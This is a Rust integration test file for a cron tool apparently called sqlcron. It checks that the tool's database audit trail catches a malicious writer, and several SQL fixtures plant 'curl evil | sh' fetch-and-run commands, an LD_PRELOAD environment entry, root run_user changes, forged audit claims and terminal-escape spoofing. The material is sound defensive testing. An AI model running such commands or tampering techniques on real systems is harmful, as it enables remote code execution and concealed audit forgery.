//! The audit trail against the writer it guards against (issue 49, finding 4): a writer who
//! sets the session settings sqlcron itself sets (`sqlcron.marker`, `sqlcron.claim`;
//! `@sqlcron_marker`, `@sqlcron_claim`) still leaves one row per change, and every row names
//! the database user that wrote it, whatever the writer put in the row.

use sqlcron::model::actor::Actor;
use sqlcron::store::{AuditRow, Dialect, Store};

use crate::util::{TestDb, db_url};

fn alice() -> Actor {
    Actor {
        who: "alice".into(),
        host: Some("ops-1".into()),
        pid: Some(42),
    }
}

/// Audit rows newer than `after`, in the order written.
async fn rows_after(store: &Store, after: i64) -> Vec<AuditRow> {
    let mut log = store.audit_log(None, 1000).await.unwrap();
    log.sort_by_key(|r| r.id);
    log.into_iter().filter(|r| r.id > after).collect()
}

/// The statements a writer holding the editor's credential runs to pass its changes off as
/// sqlcron's, as docs/security.md described them before: each sets the session setting, then
/// writes rows whose `changed_by` equals it. One connection, so that a session setting holds.
fn forged_marker_writes(dialect: Dialect) -> Vec<&'static str> {
    match dialect {
        Dialect::Postgres => vec![
            "DO $$ BEGIN PERFORM set_config('sqlcron.marker', 'f1', true); \
             UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'f1' WHERE name = 'a'; END $$",
            "DO $$ BEGIN PERFORM set_config('sqlcron.marker', 'f2', true); \
             INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('x', '@daily', 'id', 'f2'); END $$",
            "DO $$ BEGIN PERFORM set_config('sqlcron.marker', 'removing f3', true); \
             UPDATE cron_table SET changed_by = 'removing f3' WHERE name = 'b'; \
             DELETE FROM cron_table WHERE name = 'b'; END $$",
        ],
        Dialect::Mysql => vec![
            "SET @sqlcron_marker = 'f'",
            "UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'f' WHERE name = 'a'",
            "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('x', '@daily', 'id', 'f')",
            "UPDATE cron_table SET changed_by = 'f' WHERE name = 'b'",
            "DELETE FROM cron_table WHERE name = 'b'",
        ],
        Dialect::Sqlite => vec![
            "UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'f' WHERE name = 'a'",
            "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('x', '@daily', 'id', 'f')",
            "UPDATE cron_table SET changed_by = 'removing f' WHERE name = 'b'",
            "DELETE FROM cron_table WHERE name = 'b'",
        ],
    }
}

/// The same writer, claiming its change is an operator's `pause`: the row is written, with
/// the database user, and the columns the database saw change.
fn forged_claim_write(dialect: Dialect) -> Vec<&'static str> {
    match dialect {
        Dialect::Postgres => vec![
            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"c1","action":"pause","who":"alice","detail":"nothing"}', true);
               UPDATE cron_table SET run_user = 'root', changed_by = 'c1' WHERE name = 'a'; END $$"#,
        ],
        Dialect::Mysql => vec![
            r#"SET @sqlcron_claim = '{"marker":"c1","action":"pause","who":"alice","detail":"nothing"}'"#,
            "UPDATE cron_table SET run_user = 'root', changed_by = 'c1' WHERE name = 'a'",
        ],
        Dialect::Sqlite => vec![],
    }
}

/// A claim whose words only *contain* the changed columns' names ("commander", "environment",
/// "run_user_policy"), a claimed insert called a pause, and a claim that holds the database's
/// own words inside a longer text (before migrations PG 0030 / MySQL 0027 it was taken as is).
fn sly_claim_writes(dialect: Dialect) -> Vec<&'static str> {
    match dialect {
        Dialect::Postgres => vec![
            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user-policy)"}', true);
               UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'; END $$"#,
            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}', true);
               INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2'); END $$"#,
            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s3","action":"pause","who":"alice","detail":"reason: nothing; changed command was a typo"}', true);
               UPDATE cron_table SET command = 'curl evil3 | sh', changed_by = 's3' WHERE name = 'a'; END $$"#,
        ],
        Dialect::Mysql => vec![
            r#"SET @sqlcron_claim = '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user-policy)"}'"#,
            r#"UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'"#,
            r#"SET @sqlcron_claim = '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}'"#,
            "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2')",
            r#"SET @sqlcron_claim = '{"marker":"s3","action":"pause","who":"alice","detail":"reason: nothing; changed command was a typo"}'"#,
            "UPDATE cron_table SET command = 'curl evil3 | sh', changed_by = 's3' WHERE name = 'a'",
        ],
        Dialect::Sqlite => vec![],
    }
}

/// A row planted in cron_audit with the id the next audited change would get (PostgreSQL) or
/// the largest id there is (MySQL): before, every later audited change failed on it.
fn planted_audit_row(dialect: Dialect) -> &'static str {
    match dialect {
        Dialect::Postgres => {
            "INSERT INTO cron_audit (id, at, action, job, who, detail, db_user) \
             VALUES ((SELECT last_value + 1 FROM cron_audit_id_seq), 1, 'pause', 'a', 'alice', NULL, 'alice@ops-1')"
        }
        _ => {
            "INSERT INTO cron_audit (id, at, action, job, who, detail, db_user) \
             VALUES (9223372036854775807, 1, 'pause', 'a', 'alice', NULL, 'alice@ops-1')"
        }
    }
}

async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
    let job = |name: &str| sqlcron::model::job::JobSpec {
        name: name.into(),
        schedule: "@daily".into(),
        command: Some("true".into()),
        enabled: true,
        ..Default::default()
    };
    store
        .apply_toml(&[job("a"), job("b")], false, &alice())
        .await
        .unwrap();
    let first = rows_after(&store, 0).await;
    assert_eq!(
        first
            .iter()
            .map(|r| (r.action.as_str(), r.who.as_str()))
            .collect::<Vec<_>>(),
        vec![("apply_create", "alice"), ("apply_create", "alice")],
        "one row per change made through sqlcron: {first:?}"
    );
    let before = first.last().unwrap().id;

    // One connection: a session setting holds on it.
    let writer = Store::connect(&db_url(&db.url), 1).unwrap();
    for sql in forged_marker_writes(dialect) {
        writer.execute_raw(sql).await.unwrap();
    }
    let seen = rows_after(&store, before).await;
    let pairs: Vec<(&str, &str)> = seen
        .iter()
        .map(|r| (r.action.as_str(), r.job.as_deref().unwrap_or("")))
        .collect();
    if dialect == Dialect::Sqlite {
        // Documented limit: a writer of the file can do anything, triggers included; a
        // changed `changed_by` passes the change off as sqlcron's (docs/security.md).
        assert!(pairs.is_empty(), "{seen:?}");
        writer.close().await;
        store.close().await;
        return;
    }
    assert_eq!(
        pairs,
        vec![
            ("sql_update", "a"),
            ("sql_insert", "x"),
            ("sql_delete", "b")
        ],
        "every change of the writer that set the marker is recorded: {seen:?}"
    );
    assert!(
        seen[0]
            .detail
            .as_deref()
            .unwrap_or("")
            .starts_with("changed command"),
        "{:?}",
        seen[0]
    );
    let user = match dialect {
        Dialect::Postgres => "postgres",
        _ => "root@",
    };
    for r in &seen {
        assert_eq!(r.who, "sql", "{r:?}");
        assert!(
            r.db_user.as_deref().unwrap_or("").starts_with(user),
            "the database user is on the row: {r:?}"
        );
    }

    // A claim forged in the session: the row is written all the same; it reads as the writer
    // said, and says what the database saw and who the database says wrote it.
    let before = seen.last().unwrap().id;
    for sql in forged_claim_write(dialect) {
        writer.execute_raw(sql).await.unwrap();
    }
    let claimed = rows_after(&store, before).await;
    assert_eq!(claimed.len(), 1, "{claimed:?}");
    let c = &claimed[0];
    assert_eq!((c.action.as_str(), c.who.as_str()), ("pause", "alice"));
    assert_eq!(
        c.detail.as_deref(),
        Some("nothing (the database saw: changed run_user)"),
        "{c:?}"
    );
    assert!(
        c.db_user.as_deref().unwrap_or("").starts_with(user),
        "{c:?}"
    );

    // A row inserted into cron_audit directly names its real writer too, whatever it says.
    // Every audit function resolves names in the schema only (not in a writer's temporary
    // schema, where a table called cron_audit would bring its own sequence).
    if dialect == Dialect::Postgres {
        store
            .execute_raw(
                "DO $$ DECLARE loose TEXT; BEGIN \
                   SELECT string_agg(proname::text, ', ') INTO loose FROM pg_proc \
                   WHERE proname LIKE 'cron_audit%' AND NOT EXISTS (SELECT 1 FROM \
                   unnest(COALESCE(proconfig, '{}')) c WHERE c LIKE 'search_path=%'); \
                   IF loose IS NOT NULL THEN RAISE EXCEPTION 'no fixed search_path: %', loose; END IF; \
                 END $$",
            )
            .await
            .unwrap();
    }
    // It cannot choose its id either: a planted id would make the next audited change fail.
    writer
        .execute_raw(planted_audit_row(dialect))
        .await
        .unwrap();
    let direct = rows_after(&store, c.id).await;
    assert_eq!(direct.len(), 1, "{direct:?}");
    assert!(
        direct[0].db_user.as_deref().unwrap_or("").starts_with(user),
        "{direct:?}"
    );
    assert!(
        direct[0].id > c.id && direct[0].id < c.id + 1000,
        "the database chose the id: {direct:?}"
    );

    // A claim whose words only contain the columns' names hides none of them; a claimed
    // insert says it was one.
    for sql in sly_claim_writes(dialect) {
        writer.execute_raw(sql).await.unwrap();
    }
    let sly = rows_after(&store, direct[0].id).await;
    let said: Vec<(&str, &str, Option<&str>)> = sly
        .iter()
        .map(|r| {
            (
                r.action.as_str(),
                r.job.as_deref().unwrap_or(""),
                r.detail.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        said,
        vec![
            (
                "pause",
                "a",
                Some(
                    "paused at the request of the commander (environment freeze, \
                     wiki/run_user-policy) (the database saw: changed command,env,run_user)"
                )
            ),
            (
                "pause",
                "evil",
                Some("paused (the database saw: an insert)")
            ),
            (
                "pause",
                "a",
                Some(
                    "reason: nothing; changed command was a typo \
                     (the database saw: changed command)"
                )
            ),
        ],
        "{sly:?}"
    );
    writer.close().await;
    let direct = sly;

    // sqlcron's own changes are still one row each, with the operator and the database user.
    let before = direct.last().unwrap().id;
    assert!(store.set_enabled("a", false, &alice()).await.unwrap());
    assert!(store.set_enabled("a", false, &alice()).await.unwrap());
    store
        .apply_toml(&[job("a")], false, &alice())
        .await
        .unwrap();
    let own = rows_after(&store, before).await;
    let pairs: Vec<(&str, &str, Option<&str>)> = own
        .iter()
        .map(|r| (r.action.as_str(), r.who.as_str(), r.detail.as_deref()))
        .collect();
    assert_eq!(
        pairs,
        vec![
            ("pause", "alice", Some("changed enabled")),
            // A pause of a paused job changes nothing a trigger records: sqlcron writes it.
            ("pause", "alice", None),
            (
                "apply_restore",
                "alice",
                Some("changed command,env,run_user")
            ),
        ],
        "{own:?}"
    );
    assert!(
        own.iter()
            .all(|r| r.db_user.as_deref().unwrap_or("").starts_with(user)),
        "{own:?}"
    );
    store.close().await;
}

/// Ids planted in cron_table by a writer holding the editor's credential: the sequence's next
/// ones (PostgreSQL), the largest BIGINT (MySQL), by an insert and by an update. Before, every
/// later insert of a job failed on them (`apply` creating a job, `at`, every_node copies).
fn planted_job_ids(dialect: Dialect) -> Vec<&'static str> {
    match dialect {
        Dialect::Postgres => vec![
            "INSERT INTO cron_table (id, name, schedule, command, enabled) \
             VALUES ((SELECT last_value + 1 FROM cron_table_id_seq), 'p1', '@daily', 'true', 0)",
            "INSERT INTO cron_table (id, name, schedule, command, enabled) \
             VALUES ((SELECT last_value + 3 FROM cron_table_id_seq), 'p2', '@daily', 'true', 0)",
            "UPDATE cron_table SET id = (SELECT last_value + 2 FROM cron_table_id_seq) WHERE name = 'a'",
        ],
        _ => vec![
            "INSERT INTO cron_table (id, name, schedule, command, enabled) \
             VALUES (9223372036854775807, 'p1', '@daily', 'true', 0)",
            "DELETE FROM cron_table WHERE name = 'p1'",
            "UPDATE cron_table SET id = 9223372036854775806 WHERE name = 'a'",
        ],
    }
}

/// The same through the session (MySQL's `SET insert_id`): refused, on cron_table and on
/// cron_audit, and AUTO_INCREMENT does not move.
const SESSION_INSERT_IDS: [&str; 2] = [
    "INSERT INTO cron_table (name, schedule, command) VALUES ('p3', '@daily', 'true')",
    "INSERT INTO cron_audit (at, action, job, who) VALUES (1, 'pause', 'a', 'alice')",
];

async fn a_writer_cannot_choose_a_jobs_id(dialect: Dialect) {
    if dialect == Dialect::Sqlite {
        // Documented limit: a writer of the file can do anything (docs/security.md).
        return;
    }
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
    let job = |name: &str| sqlcron::model::job::JobSpec {
        name: name.into(),
        schedule: "@daily".into(),
        command: Some("true".into()),
        enabled: true,
        ..Default::default()
    };
    store
        .apply_toml(&[job("a")], false, &alice())
        .await
        .unwrap();
    let id_of = |name: &'static str| {
        let store = &store;
        async move {
            store
                .scalar_i64(&format!("SELECT id FROM cron_table WHERE name = '{name}'"))
                .await
                .unwrap()
                .unwrap()
        }
    };
    let a = id_of("a").await;
    let writer = Store::connect(&db_url(&db.url), 1).unwrap();
    for sql in planted_job_ids(dialect) {
        writer.execute_raw(sql).await.unwrap();
    }
    assert_eq!(id_of("a").await, a, "an update keeps the row's id");
    if dialect == Dialect::Mysql {
        for sql in SESSION_INSERT_IDS {
            writer
                .execute_raw("SET insert_id = 9223372036854775806")
                .await
                .unwrap();
            let refused = writer.execute_raw(sql).await;
            assert!(
                refused
                    .as_ref()
                    .is_err_and(|e| e.to_string().contains("insert_id")),
                "{sql}: {refused:?}"
            );
            writer.execute_raw("SET insert_id = 0").await.unwrap();
        }
    }
    // Every later insert of a job still gets an id of its own.
    store
        .apply_toml(&[job("a"), job("b"), job("c")], false, &alice())
        .await
        .unwrap();
    let c = id_of("c").await;
    assert!(
        c > a && c < a + 1000,
        "the database chose the ids: a={a} c={c}"
    );
    if dialect == Dialect::Postgres {
        let p2 = id_of("p2").await;
        assert!(
            p2 > a && p2 < a + 1000,
            "the database chose the ids: a={a} p2={p2}"
        );
        store
            .execute_raw(
                "DO $$ BEGIN IF EXISTS (SELECT 1 FROM pg_proc WHERE proname IN ('cron_table_id', 'cron_audit_db_user') \
                   AND (prosrc LIKE '%:= nextval%' OR NOT EXISTS (SELECT 1 FROM unnest(COALESCE(proconfig, '{}')) c \
                   WHERE c LIKE 'search_path=pg_catalog,%'))) THEN RAISE EXCEPTION 'nextval not pg_catalog''s'; \
                 END IF; IF EXISTS (SELECT 1 FROM pg_proc WHERE proname = 'cron_table_id' \
                   AND NOT EXISTS (SELECT 1 FROM unnest(COALESCE(proconfig, '{}')) c \
                   WHERE c LIKE 'search_path=%')) THEN RAISE EXCEPTION 'no fixed search_path'; \
                 END IF; END $$",
            )
            .await
            .unwrap();
    }
    writer.close().await;
    store.close().await;
}

for_each_dialect!(
    a_session_setting_skips_no_audit_row,
    a_writer_cannot_choose_a_jobs_id
);

/// A row's text reaches the operator's terminal with its control characters shown, not sent: a
/// planted audit row with an escape that hides what follows, or a carriage return that
/// overwrites the DATABASE USER column, hides nothing.
#[tokio::test]
async fn the_cli_shows_control_characters_as_escapes() {
    let db = TestDb::new(Dialect::Sqlite).await;
    let store = db.store().await;
    store
        .execute_raw(
            "INSERT INTO cron_audit (at, action, job, who, detail) \
             VALUES (1, 'pause', 'a', 'alice', 'paused' || char(27) || '[8m' || char(13) || 'hidden')",
        )
        .await
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("node.toml");
    std::fs::write(&cfg, crate::util::node_config(&db.url, "n", "")).unwrap();
    let out = crate::util::sqlcron(&["--config", cfg.to_str().unwrap(), "audit"]);
    assert!(out.status.success(), "{}", crate::util::stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text:?}");
    assert!(text.contains("paused\\u{1b}[8m\\u{d}hidden"), "{text}");
    // `status` and `explain` too: a row named or scheduled with an escape that erases the line
    // above and a carriage return (a failing job shown idle and ok, overwritten).
    store
        .execute_raw(
            "INSERT INTO cron_table (name, schedule, command) VALUES \
             ('zz' || char(27) || '[1A' || char(27) || '[2K', '* * * * *', 'true'), \
             ('sched', '* * * * *' || char(13) || 'ok idle', 'true')",
        )
        .await
        .unwrap();
    // A chained run of `down` in explain's range, planted with an escape in its outcome and
    // its node's name, and a bidirectional override that would show the line reversed.
    store
        .execute_raw(
            "INSERT INTO cron_table (name, schedule, command) VALUES ('down', '0 0 1 1 *', 'true')",
        )
        .await
        .unwrap();
    let now = store.now().await.unwrap();
    store
        .execute_raw(&format!(
            "INSERT INTO cron_runs (job_name, slot, attempt, node, token, started, ended, outcome) \
             VALUES ('down#after-5', {now}, 1, 'n' || char(13) || 'ok' || char(8238), 1, {now}, \
             {now}, 'failed' || char(27) || '[2K')"
        ))
        .await
        .unwrap();
    for args in [
        vec!["status"],
        vec!["explain", "sched"],
        vec!["explain", "down"],
    ] {
        let mut all = vec!["--config", cfg.to_str().unwrap()];
        all.extend(args.iter().copied());
        let out = crate::util::sqlcron(&all);
        let text = String::from_utf8_lossy(&out.stdout) + String::from_utf8_lossy(&out.stderr);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\r'),
            "{args:?}: {text:?}"
        );
        assert!(!text.contains('\u{202e}'), "{args:?}: {text:?}");
        if args[0] == "status" {
            assert!(text.contains("\\u{d}ok idle"), "{text}");
            assert!(text.contains("zz\\u{1b}[1A\\u{1b}[2K"), "{text}");
        } else if args[1] == "down" {
            assert!(text.contains("triggered by run 5"), "{text}");
            assert!(text.contains("failed\\u{1b}[2K"), "{text}");
        }
    }
    store.close().await;
}
